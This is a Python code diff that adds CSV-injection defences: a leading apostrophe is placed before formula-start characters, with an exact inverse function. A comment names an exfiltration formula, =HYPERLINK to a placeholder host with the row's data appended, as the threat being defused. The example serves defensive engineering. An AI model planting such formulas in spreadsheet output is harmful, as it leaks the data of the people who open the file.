@@ -49,9 +49,48 @@ def terminal_safe(text: str) -> str:
     return "".join(_escaped(ch) if unsafe(ch) else ch for ch in text)
 
 
+# What makes a spreadsheet read a cell as a formula (or, for tab and carriage return, shift
+# it into one): OWASP's list for CSV injection. ``=HYPERLINK("http://x/?"&A1)`` in a name
+# would send the row's data away when the sheet is opened.
+FORMULA_START = frozenset("=+-@\t\r")
+# The defuse OWASP recommends: a leading apostrophe, which a spreadsheet reads as "text".
+DEFUSE = "'"
+
+
+_AFTER_DEFUSE = FORMULA_START | {DEFUSE}
+
+
+def _needs_defuse(text: str) -> bool:
+    # A text that starts with the apostrophe itself and then a formula start (or another
+    # apostrophe) gets one more, so that restore_formula gives back exactly what was defused.
+    return text[:1] in FORMULA_START or (text[:1] == DEFUSE and text[1:2] in _AFTER_DEFUSE)
+
+
+def defuse_formula(text: str) -> str:
+    """``text`` as a CSV cell no spreadsheet runs: ``'`` before a formula start (``=``,
+    ``+``, ``-``, ``@``, tab, carriage return), and before an apostrophe already there when
+    one of those or another apostrophe follows it. Undone exactly by :func:`restore_formula`."""
+    return DEFUSE + text if _needs_defuse(text) else text
+
+
+def restore_formula(text: str) -> str:
+    """The text :func:`defuse_formula` was given: one leading ``'`` dropped where it put one."""
+    if text[:1] == DEFUSE and text[1:2] in _AFTER_DEFUSE:
+        return text[1:]
+    return text
+
+
 def csv_cell(value: object) -> str:
-    """A CSV cell's text as a terminal would show it safely (the csv module quotes it)."""
-    return terminal_safe(str(value))
+    """A result CSV cell's text as a terminal would show it safely (the csv module quotes it)
+    and defused against formulas: a name ``=HYPERLINK(...)`` is written ``'=HYPERLINK(...)``.
+
+    A leading tab or carriage return is escaped (``\\t``) by then, and still defused: the
+    cell stands for text that began with one."""
+    raw = str(value)
+    text = terminal_safe(raw)
+    if raw[:1] in ("\t", "\r"):
+        return DEFUSE + text
+    return defuse_formula(text)
 
 
 # JSON strings escape C0 controls themselves; ensure_ascii=False (kept so Chinese stays
